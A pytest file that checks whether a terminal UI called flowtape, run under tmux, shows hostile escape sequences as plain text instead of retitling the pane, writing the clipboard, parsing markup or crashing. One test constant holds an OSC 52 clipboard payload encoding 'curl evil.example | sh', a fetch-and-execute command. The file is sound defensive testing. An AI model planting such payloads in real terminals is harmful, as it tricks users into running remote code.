"""Hostile outside text in a real terminal: flowtape runs in tmux and must not retitle the pane, fill a
paste buffer (OSC 52), follow markup, or crash; the text shows literally instead.

A private tmux server (its own socket, no user config) with `set-clipboard on` and titles allowed,
so a leak would show. A control step first prints the same sequences raw and checks that tmux does
pick them up: without that, a quiet result could mean the harness sees nothing. Skipped without tmux.
"""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import sys
import time

import pytest

from store import Store

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="needs tmux (apt install tmux)")

TITLE = "\x1b]2;PWNED-TITLE\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
HOSTILE = f"[@click=app.quit]x[/] {TITLE}{CLIPBOARD}\u202e\x9d0;C1\x9c IBIT [/]"  # the bar shows 60 characters


class Tmux:
    def __init__(self, tmp_path) -> None:
        self.base = ["tmux", "-S", str(tmp_path / "tmux.sock"), "-f", "/dev/null"]

    def __call__(self, *args: str) -> str:
        # A plain user's environment: pytest's own variables (PYTEST_*, TEXTUAL_*) must not reach the app.
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST", "TEXTUAL"))}
        return subprocess.run([*self.base, *args], capture_output=True, text=True, timeout=20, check=False, env=env).stdout

    def wait_for(self, needle: str, seconds: float = 20.0) -> str:
        deadline, screen = time.monotonic() + seconds, ""
        while time.monotonic() < deadline:
            screen = self("capture-pane", "-p", "-t", "ft")
            if needle in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"{needle!r} never appeared:\n{screen}")


@pytest.fixture
def tmux(tmp_path):
    t = Tmux(tmp_path)
    t("new-session", "-d", "-s", "ft", "-x", "120", "-y", "40", "sh")
    t("set", "-g", "set-clipboard", "on")
    t("set", "-g", "allow-rename", "on")
    yield t
    t("kill-server")


def test_control_the_harness_sees_a_raw_leak(tmux, tmp_path):
    raw = tmp_path / "raw.txt"
    raw.write_text(TITLE + CLIPBOARD + "shown\n")
    tmux("send-keys", "-t", "ft", f"cat {raw}", "Enter")
    tmux.wait_for("shown")
    assert "PWNED-TITLE" in tmux("display", "-p", "-t", "ft", "#{pane_title}")
    assert tmux("list-buffers").strip(), "OSC 52 should have made a paste buffer"


def test_hostile_status_text_is_shown_literally_and_changes_nothing(tmux, tmp_path):
    db = tmp_path / "h.db"
    store = Store.open(db)
    store.set_status(
        "farside_btc",
        state="error",
        last_error=HOSTILE,
        failures=3,
        last_attempt=dt.datetime.now(dt.UTC).isoformat(timespec="seconds"),
    )
    store.close()
    title_before = tmux("display", "-p", "-t", "ft", "#{pane_title}")
    tmux("respawn-pane", "-k", "-t", "ft", f"{sys.executable} -m tui --offline --db {db}")
    screen = tmux.wait_for("PWNED-TITLE")  # the text is on screen, as text
    time.sleep(1.0)
    screen = tmux("capture-pane", "-p", "-t", "ft")
    assert "[@click=app.quit]x[/]" in screen  # markup shown, not parsed (and no MarkupError crash)
    assert "\ufffd]2;PWNED-TITLE" in screen  # ESC replaced, the rest literal
    assert tmux("display", "-p", "-t", "ft", "#{pane_title}") == title_before
    assert tmux("list-buffers").strip() == ""
    tmux("send-keys", "-t", "ft", "?")  # still running and answering keys
    tmux.wait_for("flowtape: keys")
